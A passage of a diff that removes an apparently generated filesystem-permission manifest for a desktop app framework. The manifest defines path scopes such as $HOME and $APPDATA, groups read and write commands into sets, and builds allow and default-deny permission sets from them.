-        "scope-picture": { sa: [{ path: "$PICTURE" }, { path: "$PICTURE/*" }] },
-        "scope-picture-index": { sa: [{ path: "$PICTURE" }] },
-        "scope-picture-recursive": { sa: [{ path: "$PICTURE" }, { path: "$PICTURE/**" }] },
-        "scope-public": { sa: [{ path: "$PUBLIC" }, { path: "$PUBLIC/*" }] },
-        "scope-public-index": { sa: [{ path: "$PUBLIC" }] },
-        "scope-public-recursive": { sa: [{ path: "$PUBLIC" }, { path: "$PUBLIC/**" }] },
-        "scope-resource": { sa: [{ path: "$RESOURCE" }, { path: "$RESOURCE/*" }] },
-        "scope-resource-index": { sa: [{ path: "$RESOURCE" }] },
-        "scope-resource-recursive": { sa: [{ path: "$RESOURCE" }, { path: "$RESOURCE/**" }] },
-        "scope-runtime": { sa: [{ path: "$RUNTIME" }, { path: "$RUNTIME/*" }] },
-        "scope-runtime-index": { sa: [{ path: "$RUNTIME" }] },
-        "scope-runtime-recursive": { sa: [{ path: "$RUNTIME" }, { path: "$RUNTIME/**" }] },
-        "scope-temp": { sa: [{ path: "$TEMP" }, { path: "$TEMP/*" }] },
-        "scope-temp-index": { sa: [{ path: "$TEMP" }] },
-        "scope-temp-recursive": { sa: [{ path: "$TEMP" }, { path: "$TEMP/**" }] },
-        "scope-template": { sa: [{ path: "$TEMPLATE" }, { path: "$TEMPLATE/*" }] },
-        "scope-template-index": { sa: [{ path: "$TEMPLATE" }] },
-        "scope-template-recursive": { sa: [{ path: "$TEMPLATE" }, { path: "$TEMPLATE/**" }] },
-        "scope-video": { sa: [{ path: "$VIDEO" }, { path: "$VIDEO/*" }] },
-        "scope-video-index": { sa: [{ path: "$VIDEO" }] },
-        "scope-video-recursive": { sa: [{ path: "$VIDEO" }, { path: "$VIDEO/**" }] },
-        "write-all": {
-          a: [
-            "mkdir",
-            "create",
-            "copy_file",
-            "remove",
-            "rename",
-            "truncate",
-            "ftruncate",
-            "write",
-            "write_file",
-            "write_text_file"
-          ]
-        },
-        "write-files": {
-          a: [
-            "create",
-            "copy_file",
-            "remove",
-            "rename",
-            "truncate",
-            "ftruncate",
-            "write",
-            "write_file",
-            "write_text_file"
-          ]
-        }
-      },
-      s: {
-        "allow-app-meta": ["read-meta", "scope-app-index"],
-        "allow-app-meta-recursive": ["read-meta", "scope-app-recursive"],
-        "allow-app-read": ["read-all", "scope-app"],
-        "allow-app-read-recursive": ["read-all", "scope-app-recursive"],
-        "allow-app-write": ["write-all", "scope-app"],
-        "allow-app-write-recursive": ["write-all", "scope-app-recursive"],
-        "allow-appcache-meta": ["read-meta", "scope-appcache-index"],
-        "allow-appcache-meta-recursive": ["read-meta", "scope-appcache-recursive"],
-        "allow-appcache-read": ["read-all", "scope-appcache"],
-        "allow-appcache-read-recursive": ["read-all", "scope-appcache-recursive"],
-        "allow-appcache-write": ["write-all", "scope-appcache"],
-        "allow-appcache-write-recursive": ["write-all", "scope-appcache-recursive"],
-        "allow-appconfig-meta": ["read-meta", "scope-appconfig-index"],
-        "allow-appconfig-meta-recursive": ["read-meta", "scope-appconfig-recursive"],
-        "allow-appconfig-read": ["read-all", "scope-appconfig"],
-        "allow-appconfig-read-recursive": ["read-all", "scope-appconfig-recursive"],
-        "allow-appconfig-write": ["write-all", "scope-appconfig"],
-        "allow-appconfig-write-recursive": ["write-all", "scope-appconfig-recursive"],
-        "allow-appdata-meta": ["read-meta", "scope-appdata-index"],
-        "allow-appdata-meta-recursive": ["read-meta", "scope-appdata-recursive"],
-        "allow-appdata-read": ["read-all", "scope-appdata"],
-        "allow-appdata-read-recursive": ["read-all", "scope-appdata-recursive"],
-        "allow-appdata-write": ["write-all", "scope-appdata"],
-        "allow-appdata-write-recursive": ["write-all", "scope-appdata-recursive"],
-        "allow-applocaldata-meta": ["read-meta", "scope-applocaldata-index"],
-        "allow-applocaldata-meta-recursive": ["read-meta", "scope-applocaldata-recursive"],
-        "allow-applocaldata-read": ["read-all", "scope-applocaldata"],
-        "allow-applocaldata-read-recursive": ["read-all", "scope-applocaldata-recursive"],
-        "allow-applocaldata-write": ["write-all", "scope-applocaldata"],
-        "allow-applocaldata-write-recursive": ["write-all", "scope-applocaldata-recursive"],
-        "allow-applog-meta": ["read-meta", "scope-applog-index"],
-        "allow-applog-meta-recursive": ["read-meta", "scope-applog-recursive"],
-        "allow-applog-read": ["read-all", "scope-applog"],
-        "allow-applog-read-recursive": ["read-all", "scope-applog-recursive"],
-        "allow-applog-write": ["write-all", "scope-applog"],
-        "allow-applog-write-recursive": ["write-all", "scope-applog-recursive"],
-        "allow-audio-meta": ["read-meta", "scope-audio-index"],
-        "allow-audio-meta-recursive": ["read-meta", "scope-audio-recursive"],
-        "allow-audio-read": ["read-all", "scope-audio"],
-        "allow-audio-read-recursive": ["read-all", "scope-audio-recursive"],
-        "allow-audio-write": ["write-all", "scope-audio"],
-        "allow-audio-write-recursive": ["write-all", "scope-audio-recursive"],
-        "allow-cache-meta": ["read-meta", "scope-cache-index"],
-        "allow-cache-meta-recursive": ["read-meta", "scope-cache-recursive"],
-        "allow-cache-read": ["read-all", "scope-cache"],
-        "allow-cache-read-recursive": ["read-all", "scope-cache-recursive"],
-        "allow-cache-write": ["write-all", "scope-cache"],
-        "allow-cache-write-recursive": ["write-all", "scope-cache-recursive"],
-        "allow-config-meta": ["read-meta", "scope-config-index"],
-        "allow-config-meta-recursive": ["read-meta", "scope-config-recursive"],
-        "allow-config-read": ["read-all", "scope-config"],
-        "allow-config-read-recursive": ["read-all", "scope-config-recursive"],
-        "allow-config-write": ["write-all", "scope-config"],
-        "allow-config-write-recursive": ["write-all", "scope-config-recursive"],
-        "allow-data-meta": ["read-meta", "scope-data-index"],
-        "allow-data-meta-recursive": ["read-meta", "scope-data-recursive"],
-        "allow-data-read": ["read-all", "scope-data"],
-        "allow-data-read-recursive": ["read-all", "scope-data-recursive"],
-        "allow-data-write": ["write-all", "scope-data"],
-        "allow-data-write-recursive": ["write-all", "scope-data-recursive"],
-        "allow-desktop-meta": ["read-meta", "scope-desktop-index"],
-        "allow-desktop-meta-recursive": ["read-meta", "scope-desktop-recursive"],
-        "allow-desktop-read": ["read-all", "scope-desktop"],
-        "allow-desktop-read-recursive": ["read-all", "scope-desktop-recursive"],
-        "allow-desktop-write": ["write-all", "scope-desktop"],
-        "allow-desktop-write-recursive": ["write-all", "scope-desktop-recursive"],
-        "allow-document-meta": ["read-meta", "scope-document-index"],
-        "allow-document-meta-recursive": ["read-meta", "scope-document-recursive"],
-        "allow-document-read": ["read-all", "scope-document"],
-        "allow-document-read-recursive": ["read-all", "scope-document-recursive"],
-        "allow-document-write": ["write-all", "scope-document"],
-        "allow-document-write-recursive": ["write-all", "scope-document-recursive"],
-        "allow-download-meta": ["read-meta", "scope-download-index"],
-        "allow-download-meta-recursive": ["read-meta", "scope-download-recursive"],
-        "allow-download-read": ["read-all", "scope-download"],
-        "allow-download-read-recursive": ["read-all", "scope-download-recursive"],
-        "allow-download-write": ["write-all", "scope-download"],
-        "allow-download-write-recursive": ["write-all", "scope-download-recursive"],
-        "allow-exe-meta": ["read-meta", "scope-exe-index"],
-        "allow-exe-meta-recursive": ["read-meta", "scope-exe-recursive"],
-        "allow-exe-read": ["read-all", "scope-exe"],
-        "allow-exe-read-recursive": ["read-all", "scope-exe-recursive"],
-        "allow-exe-write": ["write-all", "scope-exe"],
-        "allow-exe-write-recursive": ["write-all", "scope-exe-recursive"],
-        "allow-font-meta": ["read-meta", "scope-font-index"],
-        "allow-font-meta-recursive": ["read-meta", "scope-font-recursive"],
-        "allow-font-read": ["read-all", "scope-font"],
-        "allow-font-read-recursive": ["read-all", "scope-font-recursive"],
-        "allow-font-write": ["write-all", "scope-font"],
-        "allow-font-write-recursive": ["write-all", "scope-font-recursive"],
-        "allow-home-meta": ["read-meta", "scope-home-index"],
-        "allow-home-meta-recursive": ["read-meta", "scope-home-recursive"],
-        "allow-home-read": ["read-all", "scope-home"],
-        "allow-home-read-recursive": ["read-all", "scope-home-recursive"],
-        "allow-home-write": ["write-all", "scope-home"],
-        "allow-home-write-recursive": ["write-all", "scope-home-recursive"],
-        "allow-localdata-meta": ["read-meta", "scope-localdata-index"],
-        "allow-localdata-meta-recursive": ["read-meta", "scope-localdata-recursive"],
-        "allow-localdata-read": ["read-all", "scope-localdata"],
-        "allow-localdata-read-recursive": ["read-all", "scope-localdata-recursive"],
-        "allow-localdata-write": ["write-all", "scope-localdata"],
-        "allow-localdata-write-recursive": ["write-all", "scope-localdata-recursive"],
-        "allow-log-meta": ["read-meta", "scope-log-index"],
-        "allow-log-meta-recursive": ["read-meta", "scope-log-recursive"],
-        "allow-log-read": ["read-all", "scope-log"],
-        "allow-log-read-recursive": ["read-all", "scope-log-recursive"],
-        "allow-log-write": ["write-all", "scope-log"],
-        "allow-log-write-recursive": ["write-all", "scope-log-recursive"],
-        "allow-picture-meta": ["read-meta", "scope-picture-index"],
-        "allow-picture-meta-recursive": ["read-meta", "scope-picture-recursive"],
-        "allow-picture-read": ["read-all", "scope-picture"],
-        "allow-picture-read-recursive": ["read-all", "scope-picture-recursive"],
-        "allow-picture-write": ["write-all", "scope-picture"],
-        "allow-picture-write-recursive": ["write-all", "scope-picture-recursive"],
-        "allow-public-meta": ["read-meta", "scope-public-index"],
-        "allow-public-meta-recursive": ["read-meta", "scope-public-recursive"],
-        "allow-public-read": ["read-all", "scope-public"],
-        "allow-public-read-recursive": ["read-all", "scope-public-recursive"],
-        "allow-public-write": ["write-all", "scope-public"],
-        "allow-public-write-recursive": ["write-all", "scope-public-recursive"],
-        "allow-resource-meta": ["read-meta", "scope-resource-index"],
-        "allow-resource-meta-recursive": ["read-meta", "scope-resource-recursive"],
-        "allow-resource-read": ["read-all", "scope-resource"],
-        "allow-resource-read-recursive": ["read-all", "scope-resource-recursive"],
-        "allow-resource-write": ["write-all", "scope-resource"],
-        "allow-resource-write-recursive": ["write-all", "scope-resource-recursive"],
-        "allow-runtime-meta": ["read-meta", "scope-runtime-index"],
-        "allow-runtime-meta-recursive": ["read-meta", "scope-runtime-recursive"],
-        "allow-runtime-read": ["read-all", "scope-runtime"],
-        "allow-runtime-read-recursive": ["read-all", "scope-runtime-recursive"],
-        "allow-runtime-write": ["write-all", "scope-runtime"],
-        "allow-runtime-write-recursive": ["write-all", "scope-runtime-recursive"],
-        "allow-temp-meta": ["read-meta", "scope-temp-index"],
-        "allow-temp-meta-recursive": ["read-meta", "scope-temp-recursive"],
-        "allow-temp-read": ["read-all", "scope-temp"],
-        "allow-temp-read-recursive": ["read-all", "scope-temp-recursive"],
-        "allow-temp-write": ["write-all", "scope-temp"],
-        "allow-temp-write-recursive": ["write-all", "scope-temp-recursive"],
-        "allow-template-meta": ["read-meta", "scope-template-index"],
-        "allow-template-meta-recursive": ["read-meta", "scope-template-recursive"],
-        "allow-template-read": ["read-all", "scope-template"],
-        "allow-template-read-recursive": ["read-all", "scope-template-recursive"],
-        "allow-template-write": ["write-all", "scope-template"],
-        "allow-template-write-recursive": ["write-all", "scope-template-recursive"],
-        "allow-video-meta": ["read-meta", "scope-video-index"],
-        "allow-video-meta-recursive": ["read-meta", "scope-video-recursive"],
-        "allow-video-read": ["read-all", "scope-video"],
-        "allow-video-read-recursive": ["read-all", "scope-video-recursive"],
-        "allow-video-write": ["write-all", "scope-video"],
-        "allow-video-write-recursive": ["write-all", "scope-video-recursive"],
-        "deny-default": ["deny-webview-data-linux", "deny-webview-data-windows"]
-      }
-    },
-    {
-      c: [
-        "copy_file",
-        "create",
-        "exists",
-        "fstat",
-        "ftruncate",
-        "lstat",
-        "mkdir",
-        "open",
-        "read",
-        "read_dir",
-        "read_file",
-        "read_text_file",
-        "read_text_file_lines",
-        "read_text_file_lines_next",
-        "remove",
-        "rename",
-        "seek",
-        "stat",
-        "truncate",
-        "unwatch",
-        "watch",
-        "write",
-        "write_file",
-        "write_text_file"
-      ],
-      def: ["create-app-specific-dirs", "read-app-specific-dirs-recursive", "deny-default"],
-      p: {
-        "create-app-specific-dirs": { a: ["mkdir", "scope-app-index"] },
-        "deny-webview-data-linux": {},
-        "deny-webview-data-windows": {},
-        "read-all": {
-          a: [
-            "read_dir",
-            "read_file",
-            "read",
-            "open",
-            "read_text_file",
-            "read_text_file_lines",
-            "read_text_file_lines_next",
-            "seek",
-            "stat",
-            "lstat",
-            "fstat",
-            "exists",
-            "watch",
-            "unwatch"
-          ]
-        },
-        "read-app-specific-dirs-recursive": {
-          a: [
-            "read_dir",
-            "read_file",
-            "read_text_file",
-            "read_text_file_lines",
-            "read_text_file_lines_next",
-            "exists",
-            "scope-app-recursive"
-          ]
-        },
-        "read-dirs": { a: ["read_dir", "stat", "lstat", "fstat", "exists"] },
-        "read-files": {
-          a: [
-            "read_file",
-            "read",
-            "open",
-            "read_text_file",
-            "read_text_file_lines",
-            "read_text_file_lines_next",
-            "seek",
-            "stat",
-            "lstat",
-            "fstat",
-            "exists"
-          ]
-        },
-        "read-meta": { a: ["read_dir", "stat", "lstat", "fstat", "exists"] },
-        scope: {},
-        "scope-app": {
-          sa: [
-            { path: "$APPCONFIG" },
-            { path: "$APPCONFIG/*" },
-            { path: "$APPDATA" },
-            { path: "$APPDATA/*" },
-            { path: "$APPLOCALDATA" },
-            { path: "$APPLOCALDATA/*" },
-            { path: "$APPCACHE" },
-            { path: "$APPCACHE/*" },
-            { path: "$APPLOG" },
-            { path: "$APPLOG/*" }
-          ]
-        },
-        "scope-app-index": {
-          sa: [
-            { path: "$APPCONFIG" },
-            { path: "$APPDATA" },
-            { path: "$APPLOCALDATA" },
-            { path: "$APPCACHE" },
-            { path: "$APPLOG" }
-          ]
-        },
-        "scope-app-recursive": {
-          sa: [
-            { path: "$APPCONFIG" },
-            { path: "$APPCONFIG/**" },
-            { path: "$APPDATA" },
-            { path: "$APPDATA/**" },
-            { path: "$APPLOCALDATA" },
-            { path: "$APPLOCALDATA/**" },
-            { path: "$APPCACHE" },
-            { path: "$APPCACHE/**" },
-            { path: "$APPLOG" },
-            { path: "$APPLOG/**" }
-          ]
-        },
-        "scope-appcache": { sa: [{ path: "$APPCACHE" }, { path: "$APPCACHE/*" }] },
-        "scope-appcache-index": { sa: [{ path: "$APPCACHE" }] },
-        "scope-appcache-recursive": { sa: [{ path: "$APPCACHE" }, { path: "$APPCACHE/**" }] },
-        "scope-appconfig": { sa: [{ path: "$APPCONFIG" }, { path: "$APPCONFIG/*" }] },
-        "scope-appconfig-index": { sa: [{ path: "$APPCONFIG" }] },
-        "scope-appconfig-recursive": { sa: [{ path: "$APPCONFIG" }, { path: "$APPCONFIG/**" }] },
-        "scope-appdata": { sa: [{ path: "$APPDATA" }, { path: "$APPDATA/*" }] },
-        "scope-appdata-index": { sa: [{ path: "$APPDATA" }] },
-        "scope-appdata-recursive": { sa: [{ path: "$APPDATA" }, { path: "$APPDATA/**" }] },
-        "scope-applocaldata": { sa: [{ path: "$APPLOCALDATA" }, { path: "$APPLOCALDATA/*" }] },
-        "scope-applocaldata-index": { sa: [{ path: "$APPLOCALDATA" }] },
-        "scope-applocaldata-recursive": {
-          sa: [{ path: "$APPLOCALDATA" }, { path: "$APPLOCALDATA/**" }]
-        },
-        "scope-applog": { sa: [{ path: "$APPLOG" }, { path: "$APPLOG/*" }] },
-        "scope-applog-index": { sa: [{ path: "$APPLOG" }] },
-        "scope-applog-recursive": { sa: [{ path: "$APPLOG" }, { path: "$APPLOG/**" }] },
-        "scope-audio": { sa: [{ path: "$AUDIO" }, { path: "$AUDIO/*" }] },
-        "scope-audio-index": { sa: [{ path: "$AUDIO" }] },
-        "scope-audio-recursive": { sa: [{ path: "$AUDIO" }, { path: "$AUDIO/**" }] },
-        "scope-cache": { sa: [{ path: "$CACHE" }, { path: "$CACHE/*" }] },
-        "scope-cache-index": { sa: [{ path: "$CACHE" }] },
-        "scope-cache-recursive": { sa: [{ path: "$CACHE" }, { path: "$CACHE/**" }] },
-        "scope-config": { sa: [{ path: "$CONFIG" }, { path: "$CONFIG/*" }] },
-        "scope-config-index": { sa: [{ path: "$CONFIG" }] },
-        "scope-config-recursive": { sa: [{ path: "$CONFIG" }, { path: "$CONFIG/**" }] },
-        "scope-data": { sa: [{ path: "$DATA" }, { path: "$DATA/*" }] },
-        "scope-data-index": { sa: [{ path: "$DATA" }] },
-        "scope-data-recursive": { sa: [{ path: "$DATA" }, { path: "$DATA/**" }] },
-        "scope-desktop": { sa: [{ path: "$DESKTOP" }, { path: "$DESKTOP/*" }] },
-        "scope-desktop-index": { sa: [{ path: "$DESKTOP" }] },
-        "scope-desktop-recursive": { sa: [{ path: "$DESKTOP" }, { path: "$DESKTOP/**" }] },
-        "scope-document": { sa: [{ path: "$DOCUMENT" }, { path: "$DOCUMENT/*" }] },
-        "scope-document-index": { sa: [{ path: "$DOCUMENT" }] },
-        "scope-document-recursive": { sa: [{ path: "$DOCUMENT" }, { path: "$DOCUMENT/**" }] },
-        "scope-download": { sa: [{ path: "$DOWNLOAD" }, { path: "$DOWNLOAD/*" }] },
-        "scope-download-index": { sa: [{ path: "$DOWNLOAD" }] },
-        "scope-download-recursive": { sa: [{ path: "$DOWNLOAD" }, { path: "$DOWNLOAD/**" }] },
-        "scope-exe": { sa: [{ path: "$EXE" }, { path: "$EXE/*" }] },
-        "scope-exe-index": { sa: [{ path: "$EXE" }] },
-        "scope-exe-recursive": { sa: [{ path: "$EXE" }, { path: "$EXE/**" }] },
-        "scope-font": { sa: [{ path: "$FONT" }, { path: "$FONT/*" }] },
-        "scope-font-index": { sa: [{ path: "$FONT" }] },
-        "scope-font-recursive": { sa: [{ path: "$FONT" }, { path: "$FONT/**" }] },
-        "scope-home": { sa: [{ path: "$HOME" }, { path: "$HOME/*" }] },
-        "scope-home-index": { sa: [{ path: "$HOME" }] },
-        "scope-home-recursive": { sa: [{ path: "$HOME" }, { path: "$HOME/**" }] },
-        "scope-localdata": { sa: [{ path: "$LOCALDATA" }, { path: "$LOCALDATA/*" }] },
-        "scope-localdata-index": { sa: [{ path: "$LOCALDATA" }] },
-        "scope-localdata-recursive": { sa: [{ path: "$LOCALDATA" }, { path: "$LOCALDATA/**" }] },
-        "scope-log": { sa: [{ path: "$LOG" }, { path: "$LOG/*" }] },
-        "scope-log-index": { sa: [{ path: "$LOG" }] },
-        "scope-log-recursive": { sa: [{ path: "$LOG" }, { path: "$LOG/**" }] },
-        "scope-picture": { sa: [{ path: "$PICTURE" }, { path: "$PICTURE/*" }] },
-        "scope-picture-index": { sa: [{ path: "$PICTURE" }] },
-        "scope-picture-recursive": { sa: [{ path: "$PICTURE" }, { path: "$PICTURE/**" }] },
-        "scope-public": { sa: [{ path: "$PUBLIC" }, { path: "$PUBLIC/*" }] },
-        "scope-public-index": { sa: [{ path: "$PUBLIC" }] },
-        "scope-public-recursive": { sa: [{ path: "$PUBLIC" }, { path: "$PUBLIC/**" }] },
-        "scope-resource": { sa: [{ path: "$RESOURCE" }, { path: "$RESOURCE/*" }] },
-        "scope-resource-index": { sa: [{ path: "$RESOURCE" }] },
-        "scope-resource-recursive": { sa: [{ path: "$RESOURCE" }, { path: "$RESOURCE/**" }] },
-        "scope-runtime": { sa: [{ path: "$RUNTIME" }, { path: "$RUNTIME/*" }] },
-        "scope-runtime-index": { sa: [{ path: "$RUNTIME" }] },
-        "scope-runtime-recursive": { sa: [{ path: "$RUNTIME" }, { path: "$RUNTIME/**" }] },
-        "scope-temp": { sa: [{ path: "$TEMP" }, { path: "$TEMP/*" }] },
-        "scope-temp-index": { sa: [{ path: "$TEMP" }] },
-        "scope-temp-recursive": { sa: [{ path: "$TEMP" }, { path: "$TEMP/**" }] },
-        "scope-template": { sa: [{ path: "$TEMPLATE" }, { path: "$TEMPLATE/*" }] },
-        "scope-template-index": { sa: [{ path: "$TEMPLATE" }] },
-        "scope-template-recursive": { sa: [{ path: "$TEMPLATE" }, { path: "$TEMPLATE/**" }] },
-        "scope-video": { sa: [{ path: "$VIDEO" }, { path: "$VIDEO/*" }] },
-        "scope-video-index": { sa: [{ path: "$VIDEO" }] },
-        "scope-video-recursive": { sa: [{ path: "$VIDEO" }, { path: "$VIDEO/**" }] },
-        "write-all": {
-          a: [
-            "mkdir",
-            "create",
-            "copy_file",
-            "remove",
-            "rename",
-            "truncate",
-            "ftruncate",
-            "write",
-            "write_file",
-            "write_text_file"
-          ]
-        },
-        "write-files": {
-          a: [
-            "create",
-            "copy_file",
-            "remove",
-            "rename",
-            "truncate",
-            "ftruncate",
-            "write",
-            "write_file",
-            "write_text_file"
-          ]
-        }
-      },
-      s: {
-        "allow-app-meta": ["read-meta", "scope-app-index"],
-        "allow-app-meta-recursive": ["read-meta", "scope-app-recursive"],
-        "allow-app-read": ["read-all", "scope-app"],
-        "allow-app-read-recursive": ["read-all", "scope-app-recursive"],
-        "allow-app-write": ["write-all", "scope-app"],
-        "allow-app-write-recursive": ["write-all", "scope-app-recursive"],
-        "allow-appcache-meta": ["read-meta", "scope-appcache-index"],
-        "allow-appcache-meta-recursive": ["read-meta", "scope-appcache-recursive"],
-        "allow-appcache-read": ["read-all", "scope-appcache"],
-        "allow-appcache-read-recursive": ["read-all", "scope-appcache-recursive"],
-        "allow-appcache-write": ["write-all", "scope-appcache"],
-        "allow-appcache-write-recursive": ["write-all", "scope-appcache-recursive"],
-        "allow-appconfig-meta": ["read-meta", "scope-appconfig-index"],
-        "allow-appconfig-meta-recursive": ["read-meta", "scope-appconfig-recursive"],
-        "allow-appconfig-read": ["read-all", "scope-appconfig"],
-        "allow-appconfig-read-recursive": ["read-all", "scope-appconfig-recursive"],
-        "allow-appconfig-write": ["write-all", "scope-appconfig"],
-        "allow-appconfig-write-recursive": ["write-all", "scope-appconfig-recursive"],
-        "allow-appdata-meta": ["read-meta", "scope-appdata-index"],
-        "allow-appdata-meta-recursive": ["read-meta", "scope-appdata-recursive"],
-        "allow-appdata-read": ["read-all", "scope-appdata"],
-        "allow-appdata-read-recursive": ["read-all", "scope-appdata-recursive"],
-        "allow-appdata-write": ["write-all", "scope-appdata"],
-        "allow-appdata-write-recursive": ["write-all", "scope-appdata-recursive"],
-        "allow-applocaldata-meta": ["read-meta", "scope-applocaldata-index"],
-        "allow-applocaldata-meta-recursive": ["read-meta", "scope-applocaldata-recursive"],
-        "allow-applocaldata-read": ["read-all", "scope-applocaldata"],
-        "allow-applocaldata-read-recursive": ["read-all", "scope-applocaldata-recursive"],
-        "allow-applocaldata-write": ["write-all", "scope-applocaldata"],
-        "allow-applocaldata-write-recursive": ["write-all", "scope-applocaldata-recursive"],
-        "allow-applog-meta": ["read-meta", "scope-applog-index"],
-        "allow-applog-meta-recursive": ["read-meta", "scope-applog-recursive"],
-        "allow-applog-read": ["read-all", "scope-applog"],
-        "allow-applog-read-recursive": ["read-all", "scope-applog-recursive"],
-        "allow-applog-write": ["write-all", "scope-applog"],
-        "allow-applog-write-recursive": ["write-all", "scope-applog-recursive"],
-        "allow-audio-meta": ["read-meta", "scope-audio-index"],
-        "allow-audio-meta-recursive": ["read-meta", "scope-audio-recursive"],
-        "allow-audio-read": ["read-all", "scope-audio"],
-        "allow-audio-read-recursive": ["read-all", "scope-audio-recursive"],
-        "allow-audio-write": ["write-all", "scope-audio"],
-        "allow-audio-write-recursive": ["write-all", "scope-audio-recursive"],
-        "allow-cache-meta": ["read-meta", "scope-cache-index"],
-        "allow-cache-meta-recursive": ["read-meta", "scope-cache-recursive"],
-        "allow-cache-read": ["read-all", "scope-cache"],
-        "allow-cache-read-recursive": ["read-all", "scope-cache-recursive"],
-        "allow-cache-write": ["write-all", "scope-cache"],
-        "allow-cache-write-recursive": ["write-all", "scope-cache-recursive"],
-        "allow-config-meta": ["read-meta", "scope-config-index"],
-        "allow-config-meta-recursive": ["read-meta", "scope-config-recursive"],
-        "allow-config-read": ["read-all", "scope-config"],
-        "allow-config-read-recursive": ["read-all", "scope-config-recursive"],
-        "allow-config-write": ["write-all", "scope-config"],
-        "allow-config-write-recursive": ["write-all", "scope-config-recursive"],
-        "allow-data-meta": ["read-meta", "scope-data-index"],
-        "allow-data-meta-recursive": ["read-meta", "scope-data-recursive"],
-        "allow-data-read": ["read-all", "scope-data"],
-        "allow-data-read-recursive": ["read-all", "scope-data-recursive"],
-        "allow-data-write": ["write-all", "scope-data"],
-        "allow-data-write-recursive": ["write-all", "scope-data-recursive"],
-        "allow-desktop-meta": ["read-meta", "scope-desktop-index"],
-        "allow-desktop-meta-recursive": ["read-meta", "scope-desktop-recursive"],
-        "allow-desktop-read": ["read-all", "scope-desktop"],
-        "allow-desktop-read-recursive": ["read-all", "scope-desktop-recursive"],
-        "allow-desktop-write": ["write-all", "scope-desktop"],
-        "allow-desktop-write-recursive": ["write-all", "scope-desktop-recursive"],
-        "allow-document-meta": ["read-meta", "scope-document-index"],
-        "allow-document-meta-recursive": ["read-meta", "scope-document-recursive"],
-        "allow-document-read": ["read-all", "scope-document"],
-        "allow-document-read-recursive": ["read-all", "scope-document-recursive"],
-        "allow-document-write": ["write-all", "scope-document"],
-        "allow-document-write-recursive": ["write-all", "scope-document-recursive"],
-        "allow-download-meta": ["read-meta", "scope-download-index"],
-        "allow-download-meta-recursive": ["read-meta", "scope-download-recursive"],
-        "allow-download-read": ["read-all", "scope-download"],
-        "allow-download-read-recursive": ["read-all", "scope-download-recursive"],
-        "allow-download-write": ["write-all", "scope-download"],
-        "allow-download-write-recursive": ["write-all", "scope-download-recursive"],
-        "allow-exe-meta": ["read-meta", "scope-exe-index"],
-        "allow-exe-meta-recursive": ["read-meta", "scope-exe-recursive"],
-        "allow-exe-read": ["read-all", "scope-exe"],
-        "allow-exe-read-recursive": ["read-all", "scope-exe-recursive"],
-        "allow-exe-write": ["write-all", "scope-exe"],
-        "allow-exe-write-recursive": ["write-all", "scope-exe-recursive"],
-        "allow-font-meta": ["read-meta", "scope-font-index"],
-        "allow-font-meta-recursive": ["read-meta", "scope-font-recursive"],
-        "allow-font-read": ["read-all", "scope-font"],
-        "allow-font-read-recursive": ["read-all", "scope-font-recursive"],
-        "allow-font-write": ["write-all", "scope-font"],
-        "allow-font-write-recursive": ["write-all", "scope-font-recursive"],
-        "allow-home-meta": ["read-meta", "scope-home-index"],
-        "allow-home-meta-recursive": ["read-meta", "scope-home-recursive"],
-        "allow-home-read": ["read-all", "scope-home"],
-        "allow-home-read-recursive": ["read-all", "scope-home-recursive"],
-        "allow-home-write": ["write-all", "scope-home"],
-        "allow-home-write-recursive": ["write-all", "scope-home-recursive"],
-        "allow-localdata-meta": ["read-meta", "scope-localdata-index"],
-        "allow-localdata-meta-recursive": ["read-meta", "scope-localdata-recursive"],
-        "allow-localdata-read": ["read-all", "scope-localdata"],
-        "allow-localdata-read-recursive": ["read-all", "scope-localdata-recursive"],
-        "allow-localdata-write": ["write-all", "scope-localdata"],
-        "allow-localdata-write-recursive": ["write-all", "scope-localdata-recursive"],
-        "allow-log-meta": ["read-meta", "scope-log-index"],
-        "allow-log-meta-recursive": ["read-meta", "scope-log-recursive"],
-        "allow-log-read": ["read-all", "scope-log"],
-        "allow-log-read-recursive": ["read-all", "scope-log-recursive"],
-        "allow-log-write": ["write-all", "scope-log"],
-        "allow-log-write-recursive": ["write-all", "scope-log-recursive"],
-        "allow-picture-meta": ["read-meta", "scope-picture-index"],
-        "allow-picture-meta-recursive": ["read-meta", "scope-picture-recursive"],
-        "allow-picture-read": ["read-all", "scope-picture"],
-        "allow-picture-read-recursive": ["read-all", "scope-picture-recursive"],
-        "allow-picture-write": ["write-all", "scope-picture"],
-        "allow-picture-write-recursive": ["write-all", "scope-picture-recursive"],
-        "allow-public-meta": ["read-meta", "scope-public-index"],
-        "allow-public-meta-recursive": ["read-meta", "scope-public-recursive"],
-        "allow-public-read": ["read-all", "scope-public"],
-        "allow-public-read-recursive": ["read-all", "scope-public-recursive"],
-        "allow-public-write": ["write-all", "scope-public"],
-        "allow-public-write-recursive": ["write-all", "scope-public-recursive"],
-        "allow-resource-meta": ["read-meta", "scope-resource-index"],
-        "allow-resource-meta-recursive": ["read-meta", "scope-resource-recursive"],
-        "allow-resource-read": ["read-all", "scope-resource"],
-        "allow-resource-read-recursive": ["read-all", "scope-resource-recursive"],
-        "allow-resource-write": ["write-all", "scope-resource"],
-        "allow-resource-write-recursive": ["write-all", "scope-resource-recursive"],
-        "allow-runtime-meta": ["read-meta", "scope-runtime-index"],
-        "allow-runtime-meta-recursive": ["read-meta", "scope-runtime-recursive"],
-        "allow-runtime-read": ["read-all", "scope-runtime"],
-        "allow-runtime-read-recursive": ["read-all", "scope-runtime-recursive"],
-        "allow-runtime-write": ["write-all", "scope-runtime"],
-        "allow-runtime-write-recursive": ["write-all", "scope-runtime-recursive"],
-        "allow-temp-meta": ["read-meta", "scope-temp-index"],
-        "allow-temp-meta-recursive": ["read-meta", "scope-temp-recursive"],
-        "allow-temp-read": ["read-all", "scope-temp"],
-        "allow-temp-read-recursive": ["read-all", "scope-temp-recursive"],
-        "allow-temp-write": ["write-all", "scope-temp"],
-        "allow-temp-write-recursive": ["write-all", "scope-temp-recursive"],
-        "allow-template-meta": ["read-meta", "scope-template-index"],
-        "allow-template-meta-recursive": ["read-meta", "scope-template-recursive"],
-        "allow-template-read": ["read-all", "scope-template"],
-        "allow-template-read-recursive": ["read-all", "scope-template-recursive"],
-        "allow-template-write": ["write-all", "scope-template"],
-        "allow-template-write-recursive": ["write-all", "scope-template-recursive"],
-        "allow-video-meta": ["read-meta", "scope-video-index"],
-        "allow-video-meta-recursive": ["read-meta", "scope-video-recursive"],
-        "allow-video-read": ["read-all", "scope-video"],
-        "allow-video-read-recursive": ["read-all", "scope-video-recursive"],
-        "allow-video-write": ["write-all", "scope-video"],
